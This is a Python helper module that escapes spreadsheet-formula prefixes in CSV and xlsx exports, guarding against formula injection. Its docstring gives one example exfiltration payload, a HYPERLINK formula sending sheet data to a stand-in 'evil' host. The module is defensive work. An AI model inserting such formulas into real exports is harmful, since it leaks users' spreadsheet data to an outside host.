"""Shared helpers for every CSV / xlsx export: a cell that Excel or WPS will never run as a formula.

A value starting with = + - @ (or with a tab or carriage return, which some spreadsheet programs skip
before looking for those) is read as a formula: `=HYPERLINK("http://evil/?"&A1)` in an enterprise name
would leak the sheet. Such text is prefixed with an apostrophe, which spreadsheets show as plain text.
Numbers, dates and Decimals are left alone: a negative *number* is data, not a formula. Every export
writer passes each cell through `safe_cell` (or writes rows with `safe_row`).
"""

from __future__ import annotations

import codecs
import csv
import io
from collections.abc import Iterable
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def safe_cell(value: Any) -> Any:
    """`value` unchanged unless it is text a spreadsheet would evaluate; then quoted with "'"."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


def csv_bytes(header: Iterable[str], rows: Iterable[Iterable[Any]]) -> bytes:
    """A CSV file Excel opens correctly with Chinese text: UTF-8 with a BOM, every cell made safe."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(safe_row(header))
    for row in rows:
        writer.writerow(safe_row(row))
    return codecs.BOM_UTF8 + buffer.getvalue().encode("utf-8")


def xlsx_append(worksheet, values: Iterable[Any]) -> None:
    """`worksheet.append(values)` for openpyxl, with every cell made safe. openpyxl itself treats any
    string starting with "=" as a formula, so this must wrap every append."""
    worksheet.append(safe_row(values))
